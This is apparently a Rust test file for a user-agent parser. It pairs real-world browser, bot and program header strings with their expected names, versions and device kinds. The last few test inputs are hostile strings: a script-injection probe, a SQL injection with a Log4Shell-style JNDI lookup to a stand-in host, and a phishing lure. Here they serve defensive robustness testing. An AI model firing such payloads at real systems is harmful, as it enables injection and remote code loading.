use proptest::prelude::*;

use super::DeviceKind::{Bot, Desktop, Phone, Program, Tablet, Television, Unknown};
use super::*;

/// A header, what is shown of it, the major version, the kind of device.
#[rustfmt::skip]
const SEEN: &[(&str, &str, u16, DeviceKind)] = &[
    // Browsers on desktops.
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0", "Firefox on Windows", 145, Desktop),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0", "Firefox on macOS", 145, Desktop),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Firefox on Linux", 128, Desktop),
    ("Mozilla/5.0 (X11; FreeBSD amd64; rv:140.0) Gecko/20100101 Firefox/140.0", "Firefox on FreeBSD", 140, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", "Chrome on Windows", 142, Desktop),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", "Chrome on macOS", 142, Desktop),
    ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", "Chrome on ChromeOS", 141, Desktop),
    ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Ubuntu Chromium/83.0.4103.61 Chrome/83.0.4103.61 Safari/537.36", "Chromium on Linux", 83, Desktop),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15", "Safari on macOS", 26, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0", "Edge on Windows", 142, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763", "Edge on Windows", 18, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 OPR/124.0.0.0", "Opera on Windows", 124, Desktop),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Vivaldi/6.5.3206.39", "Vivaldi on Linux", 6, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 YaBrowser/25.8.0.0 Safari/537.36", "Yandex Browser on Windows", 25, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Whale/4.31.304.16 Safari/537.36", "Whale on Windows", 4, Desktop),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15 Ddg/17.5", "DuckDuckGo on macOS", 17, Desktop),
    ("Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; AS; rv:11.0) like Gecko", "Internet Explorer on Windows", 11, Desktop),
    ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)", "Internet Explorer on Windows", 6, Desktop),
    ("Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0 SeaMonkey/2.53.14", "SeaMonkey on Linux", 2, Desktop),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Safari/605.1.15", "Linux", 0, Desktop),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.0 Safari/605.1.15 Epiphany/605.1.15", "GNOME Web on Linux", 605, Desktop),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.41.97 Chrome/130.0.6723.137 Electron/33.2.0 Safari/537.36", "Windows", 0, Desktop),
    ("Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.8.1", "Lynx", 2, Unknown),

    // Browsers on phones and tablets.
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1", "Safari on iPhone", 26, Phone),
    ("Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", "Safari on iPad", 17, Tablet),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1", "Chrome on iPhone", 142, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/144.0 Mobile/15E148 Safari/605.1.15", "Firefox on iPhone", 144, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/128.0.2739.60 Mobile/15E148 Safari/605.1.15", "Edge on iPhone", 128, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/324.0.648915268 Mobile/15E148 Safari/604.1", "Google app on iPhone", 324, Phone),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36", "Chrome on Android", 142, Phone),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", "Chrome on Android", 142, Tablet),
    ("Mozilla/5.0 (Android 15; Mobile; rv:144.0) Gecko/144.0 Firefox/144.0", "Firefox on Android", 144, Phone),
    ("Mozilla/5.0 (Android 14; Tablet; rv:140.0) Gecko/140.0 Firefox/140.0", "Firefox on Android", 140, Tablet),
    ("Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36", "Samsung Internet on Android", 28, Phone),
    ("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36 EdgA/141.0.0.0", "Edge on Android", 141, Phone),
    ("Mozilla/5.0 (Linux; Android 13; motorola edge 30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36", "Chrome on Android", 120, Phone),
    ("Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/113.0.0.0 Mobile Safari/537.36", "Chrome on Android", 113, Phone),
    ("Mozilla/5.0 (Linux; U; Android 13; zh-cn; 2201122C Build/TKQ1) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/18.2.150", "Mi Browser on Android", 0, Phone),
    ("Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16", "Opera Mini on Android", 36, Phone),
    ("Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; GT-I9100 Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30", "Android Browser on Android", 4, Phone),
    ("Mozilla/5.0 (Linux; Android 9; KFMAWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.4.1 like Chrome/120.0.6099.230 Safari/537.36", "Silk on Android", 120, Tablet),
    ("Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063", "Edge on Windows Phone", 15, Phone),
    ("Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5", "Firefox on KaiOS", 48, Phone),
    ("Mozilla/5.0 (Phone; OpenHarmony 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.0.0 Safari/537.36 ArkWeb/4.1.6.1 Mobile HuaweiBrowser/5.1.2.300", "Huawei Browser on HarmonyOS", 5, Phone),

    // Browsers inside apps.
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F90 [FBAN/FBIOS;FBAV/473.0.0.44.105;FBBV/619;FBDV/iPhone14,5;FBMD/iPhone]", "Facebook on iPhone", 473, Phone),
    ("Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/470.0.0.51.112;]", "Facebook on Android", 470, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/21F90 Instagram 337.0.3.23.54 (iPhone14,7; iOS 17_5_1; de_DE)", "Instagram on iPhone", 337, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.50(0x18003233) NetType/WIFI Language/zh_CN", "WeChat on iPhone", 8, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.5.0", "LINE on iPhone", 14, Phone),
    ("Mozilla/5.0 (Linux; Android 13; SM-A546E; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.0.0 Mobile Safari/537.36 trill_2023405030 JsSdk/1.0 BytedanceWebview/d8a21c6", "TikTok on Android", 0, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Twitter for iPhone/10.45", "Twitter on iPhone", 0, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.29.8", "LinkedIn on iPhone", 0, Phone),
    ("Mozilla/5.0 (Linux; Android 12; SM-G998B; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/110.0.0.0 Mobile Safari/537.36", "Android", 0, Phone),
    ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", "iPhone", 0, Phone),

    // Televisions and consoles.
    ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.211 Safari/537.36 WebAppManager", "Chrome on webOS", 108, Television),
    ("Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36", "Tizen", 0, Television),
    ("Mozilla/5.0 (Linux; Android 9; AFTKA Build/PS7484) AppleWebKit/537.36 (KHTML, like Gecko) Silk/120.1.4 like Chrome/120.0.6099.43 Safari/537.36", "Silk on Android TV", 120, Television),
    ("Mozilla/5.0 (PlayStation; PlayStation 5/9.00) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15", "PlayStation", 0, Television),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edge/44.18363.8131", "Edge on Xbox", 44, Television),

    // Bots.
    ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", 2, Bot),
    ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.7390.122 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", 2, Bot),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", "Bingbot", 2, Bot),
    ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ClaudeBot/1.0; +claudebot@anthropic.com", "ClaudeBot", 1, Bot),
    ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Facebook", 1, Bot),
    ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "Slackbot", 1, Bot),
    ("TelegramBot (like TwitterBot)", "TelegramBot", 0, Bot),
    ("Mozilla/5.0 (compatible; ExampleBot/3.1; bots@example.test) Chrome/120.0.0.0 Safari/537.36", "unknown", 0, Bot),
    ("Mozilla/5.0 (compatible; Whatever; +https://example.test/about)", "unknown", 0, Bot),

    // Programs.
    ("curl/8.14.1", "curl", 8, Program),
    ("Wget/1.24.5", "Wget", 1, Program),
    ("python-requests/2.32.5", "Python", 2, Program),
    ("Python/3.12 aiohttp/3.9.5", "Python", 3, Program),
    ("Go-http-client/2.0", "Go", 2, Program),
    ("okhttp/4.12.0", "OkHttp", 4, Program),
    ("PostmanRuntime/7.43.0", "Postman", 7, Program),
    ("node", "unknown", 0, Unknown),
    ("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4522", "PowerShell on Windows", 5, Program),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/142.0.0.0 Safari/537.36", "Headless Chrome on Linux", 142, Program),
    ("Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240105.004)", "Android", 0, Program),
    ("Acme/42 CFNetwork/1410.0.3 Darwin/22.6.0", "unknown", 0, Program),

    // Nothing, and nonsense.
    ("", "unknown", 0, Unknown),
    (" ", "unknown", 0, Unknown),
    ("-", "unknown", 0, Unknown),
    ("Mozilla/5.0", "unknown", 0, Unknown),
    ("Firefox", "unknown", 0, Unknown),
    ("/", "unknown", 0, Unknown),
    ("()[];;,,//", "unknown", 0, Unknown),
    ("Firefox/ Chrome/x", "Firefox", 0, Unknown),
    ("Firefox/99999999999999999999", "Firefox", 0, Unknown),
    ("Your account is locked, call +1 555 0100 or see https://evil.test/", "unknown", 0, Unknown),
    ("<script>alert(1)</script> \u{202e}\u{0} Firefox/1", "Firefox", 1, Unknown),
    ("' OR 1=1 -- ${jndi:ldap://evil.test/x}", "unknown", 0, Unknown),
];

#[test]
fn headers_as_they_are_seen() {
    assert!(SEEN.len() > 80, "{}", SEEN.len());
    let misread = SEEN.iter().filter_map(|(header, shown, version, kind)| {
        let agent = UserAgent::read(header);
        let found = (agent.to_string(), agent.version.unwrap_or(0), agent.kind);
        let right = found == ((*shown).to_owned(), *version, *kind);
        (!right).then(|| format!("{header}\n  is read as {found:?}"))
    });
    let misread: Vec<_> = misread.collect();
    assert!(misread.is_empty(), "{}", misread.join("\n"));
}

#[test]
fn what_is_far_behind_is_not_read() {
    let far = format!("{} Firefox/145.0", "x".repeat(10_000));
    assert_eq!(UserAgent::read(&far), UserAgent::default());
    let near = format!("Firefox/145.0 {}", "(é; ".repeat(10_000));
    assert_eq!(UserAgent::read(&near).name, Some("Firefox"));
    // The limit falls into the middle of a character.
    let cut = format!("{}é Firefox/145.0", "x".repeat(MAX_LENGTH - 1));
    assert_eq!(UserAgent::read(&cut), UserAgent::default());
    assert_eq!(UserAgent::read(&"/".repeat(10_000)), UserAgent::default());
}

proptest! {
    #[test]
    fn anything_at_all_has_an_answer_of_our_words(header in ".{0,700}") {
        let shown = UserAgent::read(&header).to_string();
        prop_assert!(shown.is_ascii() && shown.len() < 50);
    }

    /// Real headers, cut, joined and sprinkled with noise.
    #[test]
    fn damaged_headers_have_an_answer(
        one in any::<prop::sample::Index>(), other in any::<prop::sample::Index>(),
        at in any::<prop::sample::Index>(), noise in "[ /;()\\[\\],+0-9a-zA-Zé]{0,12}",
    ) {
        let (one, other) = (one.get(SEEN).0, other.get(SEEN).0);
        let cut = |text: &str| text.chars().take(at.index(text.chars().count() + 1)).collect::<String>();
        let header = format!("{}{noise}{other}", cut(one));
        let agent = UserAgent::read(&header);
        prop_assert_eq!(agent, UserAgent::read(&header));
        prop_assert!(agent.version.is_none() || agent.name.is_some());
        prop_assert!(agent.to_string().is_ascii());
    }
}
